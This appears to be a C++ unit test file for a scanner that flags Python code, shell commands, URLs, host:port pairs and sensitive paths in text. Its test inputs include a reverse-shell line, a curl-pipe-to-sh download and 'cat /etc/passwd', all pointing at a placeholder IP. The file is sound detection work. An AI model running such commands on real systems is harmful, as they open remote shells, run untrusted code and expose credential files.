#include "scan/evidence.h"

#include <gtest/gtest.h>

namespace {

using safe_load::scanner::collect_evidence;
using safe_load::scanner::Evidence;

std::vector<Evidence> evidence(std::string_view text) {
  std::vector<Evidence> found;
  collect_evidence(text, found);
  return found;
}

using Found = std::vector<Evidence>;

TEST(Evidence, SeesProgramText) {
  EXPECT_EQ(evidence("import os"), Found{Evidence::kPython});
  EXPECT_EQ(evidence("x = 1; import os"), Found{Evidence::kPython});
  EXPECT_EQ(evidence("from os import path"), Found{Evidence::kPython});
  EXPECT_EQ(evidence("__import__('os')"), Found{Evidence::kPython});
  EXPECT_EQ(evidence("EVAL(x)"), Found{Evidence::kPython});
}

TEST(Evidence, SeesCommands) {
  EXPECT_EQ(evidence("bash -i >& /dev/tcp/203.0.113.7/1"), Found{Evidence::kShell});
  EXPECT_EQ(evidence("echo $(id)"), Found{Evidence::kShell});
  EXPECT_EQ(evidence("curl http://203.0.113.7/a | sh"), (Found{Evidence::kShell, Evidence::kUrl}));
  EXPECT_EQ(evidence("203.0.113.7:4444"), Found{Evidence::kHostPort});
  EXPECT_EQ(evidence("cat /etc/passwd"), Found{Evidence::kSensitivePath});
}

TEST(Evidence, LeavesWordsAlone) {
  for (const std::string_view text : {"an important note", "from here to there", "ratio 16:9",
                                      "version 1.2.3.4", "adam", "", "important", "cuda:0"})
    EXPECT_EQ(evidence(text), Found{}) << text;
}

TEST(Evidence, LooksAtTheBeginningOnly) {
  EXPECT_EQ(evidence(std::string(5000, ' ') + "exec(1)"), Found{});
}

}  // namespace
